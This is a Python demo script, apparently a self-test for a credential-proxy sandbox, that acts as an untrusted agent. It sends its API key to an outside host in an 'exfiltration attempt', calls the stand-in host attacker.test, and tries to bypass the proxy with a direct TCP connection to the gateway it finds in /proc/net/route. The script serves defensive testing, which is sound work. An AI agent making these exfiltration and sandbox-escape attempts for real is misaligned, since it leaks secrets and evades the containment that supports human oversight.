"""The demo's agent: untrusted code that only holds a placeholder. Standard library only (it runs
under whatever python3 the sandbox's user can execute)."""

from __future__ import annotations

import json
import os
import socket
import sys
import urllib.error
import urllib.request


def call(method: str, url: str, body: dict[str, object] | None = None) -> tuple[int, str]:
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(url, data=data, method=method)
    req.add_header("Authorization", f"Bearer {os.environ['OPENAI_API_KEY']}")
    req.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status, resp.read().decode()
    except urllib.error.HTTPError as e:  # a 403 from the proxy
        return e.code, e.read().decode()
    except urllib.error.URLError as e:  # a refused CONNECT surfaces here
        return 0, str(e.reason)


def main() -> int:
    print("[agent] 1. POST https://api.openai.com/v1/chat/completions with my placeholder key", flush=True)
    status, text = call(
        "POST", "https://api.openai.com/v1/chat/completions", {"model": "demo", "stream": True, "messages": []}
    )
    words = [
        json.loads(line[6:])["choices"][0]["delta"]["content"]
        for line in text.splitlines()
        if line.startswith("data: {")
    ]
    print(f"[agent]    -> {status}, streamed answer: {''.join(words)!r}", flush=True)
    ok = status == 200 and bool(words)

    print(
        "[agent] 2. send the same key to https://tools.example.com/collect (allowed host, key not bound there)",
        flush=True,
    )
    status, text = call("POST", "https://tools.example.com/collect", {"note": "exfiltration attempt"})
    print(f"[agent]    -> {status} {text.strip()}", flush=True)
    ok = ok and status == 403 and "secret_not_bound" in text

    print("[agent] 3. GET https://attacker.test/ (not in the allowlist)", flush=True)
    status, text = call("GET", "https://attacker.test/")
    print(f"[agent]    -> refused: {text.strip()}", flush=True)
    ok = ok and status in (0, 403)

    explicit = bool(os.environ.get("HTTPS_PROXY"))
    target = ("api.openai.com", 443) if explicit else (_gateway(), 8443)
    print(f"[agent] 4. skip the proxy: open a TCP connection straight to {target[0]}:{target[1]}", flush=True)
    try:
        socket.create_connection(target, timeout=3).close()
        if explicit:
            print("[agent]    -> connected: explicit-proxy mode cannot stop a program that ignores HTTPS_PROXY "
                  "(run as root for the sealed sandbox)", flush=True)  # fmt: skip
        else:
            print("[agent]    -> connected: THE SANDBOX LEAKS", flush=True)
            ok = False
    except OSError as e:
        print(f"[agent]    -> blocked ({type(e).__name__}: {e})", flush=True)
    return 0 if ok else 1


def _gateway() -> str:
    """The sandbox's way out (the host end of its link): the address a bypass would aim for."""
    with open("/proc/net/route") as f:
        for line in f.read().splitlines()[1:]:
            cols = line.split()
            if cols[1] == "00000000":
                return socket.inet_ntoa(bytes.fromhex(cols[2])[::-1])
    return "192.0.2.1"


if __name__ == "__main__":
    sys.exit(main())
